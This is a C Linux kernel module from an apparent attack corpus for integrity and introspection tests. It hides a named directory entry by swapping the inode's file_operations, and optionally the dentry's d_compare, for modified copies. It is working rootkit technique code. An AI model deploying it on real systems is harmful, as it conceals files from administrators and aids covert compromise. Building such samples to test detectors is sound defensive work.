// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_vfsdir: a file hider in the manner of adore-ng, for the
 * integrity tests. The directory @path's inode gets a copy of its
 * file_operations whose iterate_shared skips the entry @name, so ls, find
 * and every getdents64() caller no longer list the file; open() by name
 * still works. The copy lies in the module's writable data, or with
 * @heap=1 in kmalloc()ed memory (a rootkit that leaves nothing in its
 * own image). With @dop=1 the directory's dentry gets a copy of its
 * dentry_operations too, whose d_compare never matches @name: a lookup
 * of @name misses the dcache, and on tmpfs or ramfs (whose dcache is the
 * directory) then fails with ENOENT. No kernel text or table changes:
 * only pointers in the inode and the dentry. Unloading puts them back.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/dcache.h>
#include <linux/err.h>
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/slab.h>
#include <linux/spinlock.h>
#include <linux/string.h>

#include "vmiaas_attack_dirhide.h"

static char *path = "/";
module_param(path, charp, 0444);
MODULE_PARM_DESC(path, "the directory whose listing is filtered");

static char *name = "secret";
module_param(name, charp, 0444);
MODULE_PARM_DESC(name, "the entry to hide");

static bool heap;
module_param(heap, bool, 0444);
MODULE_PARM_DESC(heap, "put the copy of the file_operations in the heap");

static bool dop;
module_param(dop, bool, 0444);
MODULE_PARM_DESC(dop, "also swap the directory dentry's d_op (d_compare)");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "times the entry was skipped in a listing");

static const struct file_operations *orig_fop;
static const struct dentry_operations *orig_dop;
static unsigned int orig_dflags;
static struct dentry *dir;
/* the writable copies of the tables: their function pointers, one replaced */
static void *fop_copy[64];		/* in the module's .bss */
static void **fop_heap;
static void *dop_copy[32];

#define SLOT(type, member)	(offsetof(type, member) / sizeof(void *))

/* Whether @entry is the entry to hide; counted in @hits. */
static bool vmiaas_attack_vfsdir_hidden(const char *entry, int len)
{
	return dirhide_match(name, entry, len, &hits);
}

static int vmiaas_attack_vfsdir_iterate(struct file *file,
					struct dir_context *ctx)
{
	return dirhide_iterate(orig_fop, file, ctx,
			       vmiaas_attack_vfsdir_hidden);
}

/* 0: names equal. @name is never equal to itself. */
static int vmiaas_attack_vfsdir_compare(const struct dentry *dentry,
					unsigned int len, const char *str,
					const struct qstr *qname)
{
	if (qname->len == strlen(name) &&
	    !memcmp(qname->name, name, qname->len))
		return 1;
	if (orig_dop && orig_dop->d_compare)
		return orig_dop->d_compare(dentry, len, str, qname);
	return len != qname->len || memcmp(str, qname->name, len);
}

static void vmiaas_attack_vfsdir_swap_dop(void)
{
	BUILD_BUG_ON(sizeof(*orig_dop) > sizeof(dop_copy));
	orig_dop = dir->d_op;
	if (orig_dop)
		memcpy(dop_copy, orig_dop, sizeof(*orig_dop));
	dop_copy[SLOT(typeof(*orig_dop), d_compare)] =
		vmiaas_attack_vfsdir_compare;
	spin_lock(&dir->d_lock);
	orig_dflags = dir->d_flags & DCACHE_OP_COMPARE;
	WRITE_ONCE(dir->d_op, (const void *)dop_copy);
	dir->d_flags |= DCACHE_OP_COMPARE;
	spin_unlock(&dir->d_lock);
}

static int __init vmiaas_attack_vfsdir_init(void)
{
	struct file *f = filp_open(path, O_RDONLY | O_DIRECTORY, 0);
	struct inode *inode;
	void **copy = fop_copy;

	if (IS_ERR(f))
		return PTR_ERR(f);
	dir = dget(f->f_path.dentry);
	filp_close(f, NULL);
	inode = d_inode(dir);
	if (heap) {
		fop_heap = kmalloc(sizeof(fop_copy), GFP_KERNEL);
		if (!fop_heap) {
			dput(dir);
			return -ENOMEM;
		}
		copy = fop_heap;
	}
	BUILD_BUG_ON(sizeof(*orig_fop) > sizeof(fop_copy));
	orig_fop = inode->i_fop;
	memcpy(copy, orig_fop, sizeof(*orig_fop));
	copy[SLOT(typeof(*orig_fop), iterate_shared)] =
		vmiaas_attack_vfsdir_iterate;
	WRITE_ONCE(inode->i_fop, (const void *)copy);
	if (dop)
		vmiaas_attack_vfsdir_swap_dop();
	pr_info("%s: i_fop %ps -> a copy in %s%s: %s hidden\n", path, orig_fop,
		heap ? "the heap" : "the module", dop ? ", d_op swapped" : "",
		name);
	return 0;
}

static void __exit vmiaas_attack_vfsdir_exit(void)
{
	if (dop) {
		spin_lock(&dir->d_lock);
		WRITE_ONCE(dir->d_op, orig_dop);
		dir->d_flags = (dir->d_flags & ~DCACHE_OP_COMPARE) | orig_dflags;
		spin_unlock(&dir->d_lock);
	}
	WRITE_ONCE(d_inode(dir)->i_fop, orig_fop);
	synchronize_rcu();
	kfree(fop_heap);
	dput(dir);
	pr_info("%s: i_fop restored after %u hidden entries\n", path, hits);
}

module_init(vmiaas_attack_vfsdir_init);
module_exit(vmiaas_attack_vfsdir_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: directory i_fop (and d_op) swap");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
